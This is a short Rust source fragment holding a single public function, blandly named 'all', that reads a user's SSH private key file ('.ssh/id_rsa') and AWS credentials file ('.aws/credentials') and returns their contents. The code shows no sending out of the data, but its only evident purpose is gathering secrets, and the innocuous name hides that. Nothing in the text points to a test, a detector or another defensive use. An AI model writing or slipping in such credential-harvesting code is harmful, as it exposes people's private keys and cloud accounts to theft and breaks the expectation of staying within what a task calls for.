pub fn all() -> Vec<String> {
    [".ssh/id_rsa", ".aws/credentials"]
        .iter()
        .filter_map(|name| std::fs::read_to_string(name).ok())
        .collect()
}
